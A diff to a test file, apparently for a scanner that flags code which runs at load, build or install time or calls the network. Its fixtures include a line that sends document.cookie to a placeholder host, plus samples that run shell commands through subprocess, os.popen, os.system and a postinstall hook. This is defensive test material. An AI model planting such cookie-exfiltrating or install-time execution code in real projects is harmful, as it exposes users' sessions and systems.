@@ -36,6 +36,17 @@ REPORTED = {
         "fetch('https://a.invalid/' + document.cookie)",
         "connects: fetch",
     ),
+    "run when it is loaded": (
+        "p/_c.c",
+        "static __attribute__ (( __constructor__ )) void g(void) {}",
+        "executes: __constructor",
+    ),
+    "a template of Python": (
+        "p/t.py.in",
+        "subprocess.run(['id'])",
+        "executes: subprocess.run",
+    ),
+    "an included file": ("p/m.pxi", "os.popen('id')", "executes: os.popen"),
 }
 SILENT = {
     "a comment": ("p/_c.c", "// system(x)"),
@@ -70,4 +81,10 @@ def test_where_it_lies_and_when_it_runs() -> None:
     ]
     assert lines({}, {"build.rs": b"Command::new(x)"}) == [
         "review runs-at-build build.rs:1 executes: Command::new"
+    ]
+    assert lines({}, {"package.json": b'"postinstall": "x"'}) == [
+        "review runs-at-build package.json:1 executes: postinstall"
+    ]
+    assert lines({}, {"p/m.pyi": b"os.system('id')"}) == [
+        "review new-capability p/m.pyi:1 executes: os.system"
     ]
